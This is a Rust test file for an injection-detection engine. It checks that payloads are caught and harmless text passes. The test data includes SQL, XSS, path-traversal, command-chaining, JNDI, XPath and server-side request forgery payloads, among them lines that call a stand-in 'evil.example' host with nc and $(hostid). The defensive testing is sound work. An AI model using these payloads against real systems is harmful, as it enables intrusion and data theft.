//! The engine as a whole: values, and the rule that each is refused by.

use super::*;

mod alike;

fn found(engine: &Engine, text: &str, kind: Kind) -> Option<&'static str> {
    let all = Category::ALL.iter().fold(Categories::NONE, |set, (_, c)| set.with(*c));
    let mut rule = None;
    engine.judge(text.as_bytes(), kind, all, &mut Account::default(), &mut |finding| {
        rule.get_or_insert(finding.rule);
        true
    });
    rule
}

#[track_caller]
fn check(text: &str, kind: Kind, expected: Option<&str>) {
    assert_eq!(found(&Engine::new(), text, kind), expected, "{text}");
}

/// All at once, and every difference told.
#[track_caller]
fn check_all<'t>(cases: impl IntoIterator<Item = (&'t str, Kind, Option<&'t str>)>) {
    let engine = Engine::new();
    let differences: Vec<String> = cases
        .into_iter()
        .map(|(text, kind, expected)| (text, kind, expected, found(&engine, text, kind)))
        .filter(|(.., expected, found)| expected != found)
        .map(|(text, kind, expected, found)| format!("{kind:?} {text:?}: {found:?}, not {expected:?}"))
        .collect();
    assert!(differences.is_empty(), "{}", differences.join("\n"));
}

#[test]
fn what_acts_whoever_reads_it_is_not_bought_off_by_prose() {
    let prose = "We have seen this on our side too, and it is the one that you were told of. ".repeat(3);
    for (attack, rule) in [
        ("x' or 1=1 -- ", "sql.boolean"),
        ("```\n<img src=x onerror=alert(1)>\n```", "script.proof"),
        ("`../../../etc/passwd`", "path.traversal"),
        ("`http://169.254.169.254/latest/`", "request_forgery.metadata"),
    ] {
        check(&format!("{prose}\n{attack}\n{prose}"), Kind::Json, Some(rule));
    }
    check(
        &format!("{prose} `'a' or 'b'`, or /etc/passwd. {prose}"),
        Kind::Json,
        None,
    );
}

#[test]
fn what_a_review_found_to_pass_is_found() {
    let blanks = " ".repeat(130);
    let padded = [
        format!("'-'{blanks}"),
        format!("{blanks}'-'"),
        format!("'-'{}", "a".repeat(200)),
    ];
    for text in padded.iter().map(String::as_str).chain([
        "tommyy'-'",
        "y'-'M",
        "ss'-'m",
        "yyyy'*'MM",
        "kayy'-'",
        "HH'-'",
        "x HH'-'",
        "MM'-'x",
    ]) {
        check(text, Kind::Parameter, Some("sql.expression"));
    }
    check_all([
        ("yyyy'-'MM'-'dd'T'HH':'mm", Kind::Parameter, None),
        (";rm index.php", Kind::Parameter, Some("command.chained")),
        (";ls *", Kind::Parameter, Some("command.chained")),
        (";nc evil.example 80|x", Kind::Parameter, Some("command.chained")),
        (";rm index.php |x", Kind::Parameter, Some("command.chained")),
        ("; MV Agusta", Kind::Parameter, None),
        ("; rm = room", Kind::Parameter, None),
        ("| rm it | removes | ", Kind::Parameter, None),
        ("; PS I love you", Kind::Parameter, None),
        (";sftp -oProxyCommand=id x", Kind::Parameter, Some("command.chained")),
        ("x$(hostid).evil.example", Kind::Parameter, Some("command.chained")),
        ("{{ config['SECRET_KEY'] }}", Kind::Json, Some("template.expression")),
        ("{{settings}}", Kind::Json, None),
        ("os.getenv('API_KEY') returns None", Kind::Parameter, None),
        ("x'.getenv('API_KEY').'", Kind::Parameter, Some("command.php")),
        ("{{ 7 / 0 }}", Kind::Parameter, Some("template.expression")),
        ("{{(7/0)}}", Kind::Parameter, Some("template.expression")),
    ]);
}

#[test]
fn commands_are_found_behind_any_number_of_separators() {
    let many = "a;".repeat(100);
    check(&format!("{many}cat notes"), Kind::Parameter, Some("command.chained"));
    check(&"\n\n\n\n;".repeat(4096), Kind::Parameter, None);
    for (text, rule) in [
        ("time ifconfig", "command.chained"),
        ("go `sleep 5`", "command.chained"),
        ("f(){ f|f& };f", "command.function"),
        ("pi``ng 1.1.1.1", "command.obscured"),
        // Far into the value, so that a position within the span is none within the value.
        (
            "some words in front, and more of them so that it is far; pi$(x)ng 1.1.1.1",
            "command.chained",
        ),
    ] {
        check(text, Kind::Parameter, Some(rule));
    }
    for text in [
        "time sort",
        "use `cat` here",
        "the `id` of it",
        "function f() { return a | b }",
    ] {
        check(text, Kind::Json, None);
    }
}

#[test]
fn a_name_may_be_what_a_text_is_about() {
    for text in [
        "powershell for beginners",
        "ansible and terraform",
        "chef-owned restaurant",
        "touch (screen) of a phone",
    ] {
        check(text, Kind::Parameter, None);
    }
    check("{\"ip\":\"127.0.0.1\"}", Kind::Json, None);
    for (text, rule) in [
        ("powershell", "command.shell"),
        ("powershell -enc aQBlAHgA", "command.shell"),
        ("x; powershell for fun", "command.shell"),
        ("ansible-playbook site.yml", "command.shell"),
        ("touch ('/tmp/x')", "command.php"),
    ] {
        check(text, Kind::Parameter, Some(rule));
    }
}

/// Texts that a search found to cost most, each by what bounds it.
#[test]
fn what_costs_too_much_is_left_unfinished_and_names_of_many_parts_are_read_in_part() {
    let engine = Engine::new();
    let every = Category::ALL.iter().fold(Categories::NONE, |set, (_, c)| set.with(*c));
    let judge = |text: &str| {
        engine.judge(
            text.as_bytes(),
            Kind::Parameter,
            every,
            &mut Account::default(),
            &mut |_| false,
        )
    };
    // In one layer none costs so much, in four each does.
    for unit in ["exec ( ", "`=`w:=b=&/", "|Type (\n"] {
        let text = unit.repeat((16 << 10) / unit.len());
        assert_eq!(judge(&text), Some(text.len() as u64), "{unit}");
        assert_eq!(judge(&format!("%25252e{text}")), None, "{unit}");
    }
    // Encodings alone are no reason, nor is a short value.
    let text = format!(
        "%25252e{}",
        "The order came late on Monday, and the second (a lamp) was broken. ".repeat(250)
    );
    assert!(judge(&text).is_some());
    assert!(judge("%25252e{{a{{a{{a{{a<<<<<onerror=").is_some());
    // Nor do many short ones buy what one long one doesn't.
    let mut account = Account::default();
    let mut judge = |text: &str| engine.judge(text.as_bytes(), Kind::Json, every, &mut account, &mut |_| false);
    let dear = "%25252e".to_owned() + &"'<onsele\t =0".repeat(10);
    let towns = [
        "Fort Lee",
        "Forest’s Edge",
        "If",
        "Paris",
        "Santiago de Compostela",
        "São Paulo",
    ];
    assert!(towns.iter().cycle().take(10_000).all(|town| judge(town).is_some()));
    assert!((0..10_000).any(|_| judge(&dear).is_none()));
    // What is read behind a quote ends with so many tokens, whatever joins them.
    let value = format!("x'{}or 1=1", "a.".repeat(4000));
    check(&value, Kind::Parameter, None);
    check("x' or a.b.c=1", Kind::Parameter, Some("sql.boolean"));
}

/// Line ends alone make no document of a value, and what stands in front of lines that say nothing, or behind them, is judged.
/// Cells of one sign, in quotes or not: each is a name behind a separator.
#[test]
fn a_table_of_short_cells_is_within_what_it_may_cost() {
    let row = "\"a\";\"b\";".repeat(20);
    for text in [
        "\"a\";\"b\";".repeat(400),
        format!("{row}\n").repeat(100),
        "x|".repeat(2000),
        "ab;x;".repeat(400),
    ] {
        for kind in [Kind::Parameter, Kind::Json, Kind::Text] {
            check(&text, kind, None);
        }
    }
}

#[test]
fn line_ends_buy_nothing() {
    let lines = "a line that says nothing at all\n".repeat(8);
    let blank = "\n".repeat(200);
    let attack = "1 union select 1,2 from users";
    let json = |text: String| check(&text, Kind::Json, Some("sql.union"));
    json(format!("{attack}{blank}"));
    json(format!("{blank}{attack}{blank}"));
    for text in [
        format!("{attack}{blank}"),
        format!("{attack}\n{lines}"),
        format!("{lines}{attack}"),
        format!("{lines}{attack}\n\n"),
    ] {
        check(&text, Kind::Parameter, Some("sql.union"));
    }
    let gopher = format!("gopher://127.0.0.1:6379/_*1\r\n$8\r\nflushall\r\n{lines}");
    check(&gopher, Kind::Parameter, Some("request_forgery.scheme"));
    // What acts by itself, documents have.
    for line in [
        "http://localhost:3000/",
        "import java.util.List;",
        "#!/bin/bash",
        "SELECT u.name, o.total",
        "Error: ENOENT: no such file or directory, open '/etc/hosts'",
        "| ip address | Name |",
        "module.exports = {",
    ] {
        check(&format!("{line}\n{lines}"), Kind::Parameter, None);
        check(&format!("{lines}{line}"), Kind::Parameter, None);
    }
    check(&lines, Kind::Parameter, None);
}

/// Signs in a password are random; what is spelt out in it is not.
#[test]
fn a_password_is_judged_by_more_than_its_signs() {
    let random = [
        "e$LTbfGW(B0LP7",
        "X0$8&3r/Nc&D",
        ";WkY/?S=RlQi",
        "8IC%{%@-VD:",
        "'?tmM1l74>K&",
        "a``b$_c*)(",
    ];
    check_all(random.map(|text| (text, Kind::Secret, None)));
    let attacks = [
        ("'or'1'='1", "sql.boolean"),
        ("'/**/union/**/select/**/1", "sql.union"),
        ("$(wget)", "command.chained"),
        ("${jndi:ldap://x}", "expression.jndi"),
        ("{\"$ne\":1}", "nosql.operator"),
        ("<script>x()</script>", "script.element"),
    ];
    check_all(attacks.map(|(text, rule)| (text, Kind::Secret, Some(rule))));
}

/// Told from paths and patterns of a value's own by reading it: whoever looks a user up puts names, passwords and fields of
/// the head into a path.
#[test]
fn a_path_is_left_by_a_bracket_that_the_value_did_not_open() {
    let kinds = [
        Kind::Parameter,
        Kind::Json,
        Kind::Cookie,
        Kind::Name,
        Kind::Secret,
        Kind::Header,
        Kind::Agent,
        Kind::Referer,
        Kind::Path,
        Kind::Text,
    ];
    let attacks = [
        "']|//*['",
        "x']|//*['1",
        "x\"]|//*[\"1",
        "1]|//*[1",
        "1]|//*['1",
        "true()]|//*[1",
        "0 or true()]|//*[1",
        "x' and 1]|//pw['1",
        "x'=1]|//*['",
        "' or 1]|//*['",
        "x' ]|//*['1",
        "admin' ] | //user/*['",
        "x'))]|//*[(('1",
        ".']|//*['1",
        "/']|//*['1",
        "./x']|//pw['1",
        "/?lookup=%27%5D%7C%2F%2F%2A%5B%27",
        "x']|/*['1",
        "x']|\n//*['1",
        "x']|\t (//*)['1",
        "x'][1<2]|//*['1",
        "x']/..|//*['1",
        "x' or .]|//*['1",
        "x' or a[1]]|//*['1",
        // What the value quotes opens nothing.
        "[']|//*['1",
        "[x'='x']|//*['1]",
        "\"[',\"']\"]|//*['1",
    ];
    let own = [
        "//div[@class='x'] | //span",
        "a[@id='1'] | //b",
        "/a[1]|//b",
        "//a[contains(text(), \"it's\")] | //b",
        "./x[y]|/*",
        "don't use a['b'] | // that",
        "type A = B[] | // one\n  C",
        "x['a']|/* b */",
        "] a, b | // c",
    ];
    let in_all = |text, rule| kinds.map(|kind| (text, kind, rule));
    check_all(attacks.into_iter().flat_map(|text| in_all(text, Some("nosql.xpath"))));
    check_all(own.into_iter().flat_map(|text| in_all(text, None)));
}

#[test]
fn what_a_tag_loads_is_known_wherever_it_ends_and_whatever_tag_was_read_before() {
    for text in [
        "<meta http-equiv=\"refresh\" content=\"0; http://a.example?</a>",
        "<a b=<base href=\"//a.example/</a>",
        "<a <b <embed c src=x",
    ] {
        check(text, Kind::Parameter, Some("script.element"));
    }
}

/// Nothing is dropped where the trie is built: its numbers hold all nodes there are.
#[test]
fn every_literal_of_every_rule_is_found() {
    let engine = Engine::new();
    for group in literals::groups() {
        for text in group.texts {
            let mut found = false;
            engine.finder.scan(text.as_bytes(), |id, end| {
                let literal = engine.literals.get(id);
                found |= end == text.len()
                    && literal.is_some_and(|(len, groups)| {
                        *len == text.len() && groups.iter().any(|(g, _)| std::ptr::eq(*g, group))
                    });
                found
            });
            assert!(found, "{text} of {}", group.rule);
        }
    }
}
